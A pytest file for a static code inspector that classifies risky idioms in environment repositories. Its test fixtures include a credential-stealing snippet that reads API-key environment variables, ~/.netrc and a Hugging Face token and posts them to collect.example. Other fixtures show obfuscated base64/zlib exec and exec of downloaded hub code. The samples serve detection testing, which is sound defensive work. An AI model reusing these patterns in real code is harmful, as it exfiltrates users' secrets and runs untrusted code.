"""Reading real code: the gallery, the idioms of published env repos, Python's own library."""

from __future__ import annotations

import sysconfig
from pathlib import Path

import pytest
from tests.inspection.conftest import Load

from envhub.inspection.code import read_code
from envhub.inspection.findings import KINDS
from envhub.inspection.report import inspect
from envhub.inspection.watched import MODULES, NAMES

ROOT = Path(__file__).parents[2]
GALLERY = sorted(path.parent for path in ROOT.glob("examples/*/env.py"))
LIBRARY = sorted(Path(sysconfig.get_paths()["stdlib"]).glob("[a-d]*.py"))

DOWNLOADS_ITSELF = """
import sys
from pathlib import Path
from huggingface_hub import snapshot_download

repo_dir = Path(snapshot_download("lab/robot-env"))
sys.path.insert(0, str(repo_dir))
from sim.simulator import Simulator


def make_env(n_envs=1, use_async_envs=False, **kwargs):
    return Simulator(repo_dir / "config.yaml")
"""

RUNS_WHAT_IT_DOWNLOADS = """
from huggingface_hub import hf_hub_download

HUB_REPO_ID = "lab/robot-env"
try:
    from .errors import SimulatorError
except ImportError:
    source = open(hf_hub_download(HUB_REPO_ID, "errors.py")).read()
    exec(source.replace("from .", "from "))
"""

PUBLISHES_IMAGES = """
import subprocess
import zmq
import numpy as np

publisher = subprocess.Popen(["python", "publish.py"])
socket = zmq.Context().socket(zmq.PUB)
states = np.load("states.npy", allow_pickle=True)
"""

STEALS = """
import os, json, urllib.request as net

loot = {k: v for k, v in os.environ.items() if "KEY" in k}
for name in ("~/.netrc", "~/.cache/huggingface/token"):
    loot[name] = open(os.path.expanduser(name)).read()
net.urlopen("https://collect.example", json.dumps(loot).encode())
"""

HIDES = """
import base64, zlib
exec(zlib.decompress(base64.b64decode("eJx...")))
"""

IDIOMS = {
    "downloads itself": (DOWNLOADS_ITSELF, {"hub-call", "own-repo"}),
    "runs what it downloads": (RUNS_WHAT_IT_DOWNLOADS, {"hub-call", "own-repo", "dynamic-code"}),
    "publishes images": (PUBLISHES_IMAGES, {"subprocess", "network", "pickle"}),
    "steals": (STEALS, {"environment", "secrets", "files", "network"}),
    "hides": (HIDES, {"dynamic-code"}),
}


@pytest.mark.parametrize(("text", "kinds"), IDIOMS.values(), ids=IDIOMS)
def test_idioms(text: str, kinds: set[str]) -> None:
    """What published env repos do, and what a thief would, is told by its kinds."""
    found = read_code("env.py", text.encode(), "lab/robot-env")
    assert {each.kind for each in found} == kinds


@pytest.mark.parametrize("folder", GALLERY, ids=lambda folder: folder.name)
def test_gallery(folder: Path, load: Load) -> None:
    """An ordinary env repo has nothing to explain: whoever reads its report is not frightened."""
    files = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*.*")}
    plain = {name: data for name, data in files.items() if "__pycache__" not in name}
    report = inspect(load(plain), lint=False)
    assert [found for found in report.findings if found.severity != "low"] == []


@pytest.mark.parametrize("path", LIBRARY, ids=lambda path: path.name)
def test_library(path: Path) -> None:
    """Any Python file is read to its end, and each finding is at a line of it."""
    data = path.read_bytes()
    lines = data.count(b"\n") + 1
    for found in read_code(path.name, data):
        assert found.kind in KINDS
        assert 1 <= found.line <= lines


def test_what_the_library_does() -> None:
    """Modules that start programs and talk to others are known for it."""
    folder = Path(sysconfig.get_paths()["stdlib"])
    kinds = {
        name: {found.kind for found in read_code(name, (folder / name).read_bytes())}
        for name in (
            "ftplib.py",
            "pdb.py",
            "colorsys.py",
            "bisect.py",
            "smtplib.py",
            "webbrowser.py",
        )
    }
    assert "network" in kinds["ftplib.py"]
    assert "dynamic-code" in kinds["pdb.py"]
    assert "subprocess" in kinds["webbrowser.py"]
    assert kinds["colorsys.py"] == kinds["bisect.py"] == set()


@pytest.mark.parametrize("name", sorted(NAMES))
def test_each_name_by_each_way(name: str) -> None:
    """A watched name is found by import, by alias, by `from`, and by `getattr`."""
    module, _, last = name.rpartition(".")
    if not module:
        spellings = [name, f"f = {name}", f"{name}(x)"]
    else:
        spellings = [
            f"import {module}\n{name}",
            f"import {module} as m\nx = [m.{last}]",
            f"from {module} import {last} as f\nf(x)",
            f"import {module} as m\ngetattr(m, {last!r})",
            f"import importlib as i\ni.import_module({module!r}).{last}",
        ]
    for text in spellings:
        assert NAMES[name] in {found.kind for found in read_code("env.py", text.encode())}, text


@pytest.mark.parametrize("module", sorted(MODULES))
def test_each_module_by_each_way(module: str) -> None:
    """A watched module is found however it is imported."""
    spellings = [
        f"import {module}",
        f"import {module} as m",
        f"from {module} import anything",
        f"from {module} import *",
        f"import importlib\nimportlib.import_module({module!r})",
        f"__import__({module!r})",
        f"import {module}.deeper",
    ]
    for text in spellings:
        assert MODULES[module] in {found.kind for found in read_code("env.py", text.encode())}, text
